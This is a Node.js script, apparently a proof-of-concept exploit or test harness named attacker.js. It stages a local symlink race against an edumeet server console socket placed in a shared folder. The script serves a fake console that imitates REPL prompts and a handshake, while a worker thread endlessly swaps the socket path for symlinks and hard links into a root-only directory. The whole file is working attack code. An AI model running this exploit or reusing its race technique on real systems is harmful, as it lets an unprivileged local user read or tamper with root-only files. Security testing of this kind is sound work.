// A local user who is no server: `node attacker.js HOW FOLDER VAULT`. Serves what a console shows, and
// meanwhile swaps what is at its path for links into VAULT, which only root may enter, as fast as it
// can. HOW says what it may swap: a `name` in FOLDER, which is everybody's, or the `folder` in it too,
// because FOLDER is its own.
'use strict';

const fs = require('fs');
const net = require('net');
const { Worker, isMainThread, workerData } = require('worker_threads');

const NAMES = { name: 'edumeet-server.sock', folder: 'inner/console.sock' };

// What it says after so many visits: the deeper it leads a visitor, the longer that takes.
const DEPTHS = ['nothing', 'prompt', 'prompt', 'refusal', 'prompt', 'nothing', 'script', 'prompt'];

function serve(listening) {
  let visits = 0;
  net.createServer((socket) => {
    socket.on('error', () => {});
    socket.setEncoding('utf8');
    converse(socket, DEPTHS[visits++ % DEPTHS.length]);
  }).listen(listening, () => console.log('ready'));
}

function converse(socket, depth) {
  if (depth === 'nothing') return socket.destroy();
  let typed = '';
  socket.write('cmd> ');
  return socket.on('data', (text) => {
    typed += text;
    if (depth === 'prompt' || text === '\x04' && typed.endsWith('.exit\n\x04')) return socket.end();
    if (text === 't\n') return socket.write('terminal> ');
    if (text === '.editor\n') return socket.write('Entering editor mode');
    if (text === '.exit\n') return socket.write('cmd> ');
    if (text !== '\x04') return typed.includes('\0') ? tell(socket) : socket.write(text);
    if (depth === 'refusal') return socket.write('terminal> ');
    const mark = /'([0-9a-f]{16})' \+ '([0-9a-f]{16})'/.exec(typed);
    return socket.write(`${mark[1]}${mark[2]}\n`);
  });
}

function tell(socket) {
  socket.end('{"t":"hello","v":1,"kind":"fake","mediasoup":"3","node":"v0","pid":1}\n');
}

function swap({ how, folder, vault }) {
  const at = (name) => `${folder}/${name}`;
  const victim = `${vault}/console.sock`;
  const targets = [victim, `${vault}/file`, victim, vault, victim];
  for (let round = 0; ; round++) {
    // rename() replaces what is there: the path is never empty.
    fs.symlinkSync(targets[round % targets.length], at('swap'));
    fs.renameSync(at('swap'), at(NAMES[how]));
    fs.linkSync(at('real.sock'), at('swap'));
    fs.renameSync(at('swap'), at(NAMES[how]));
    if (how === 'folder') {
      fs.renameSync(at('inner'), at('away'));
      fs.symlinkSync(vault, at('inner'));
      fs.unlinkSync(at('inner'));
      fs.renameSync(at('away'), at('inner'));
    }
  }
}

if (isMainThread) {
  const [how, folder, vault] = process.argv.slice(2);
  if (how === 'folder') fs.mkdirSync(`${folder}/inner`);
  serve(`${folder}/real.sock`);
  fs.linkSync(`${folder}/real.sock`, `${folder}/${NAMES[how]}`);
  new Worker(__filename, { workerData: { how, folder, vault } });
} else {
  swap(workerData);
}
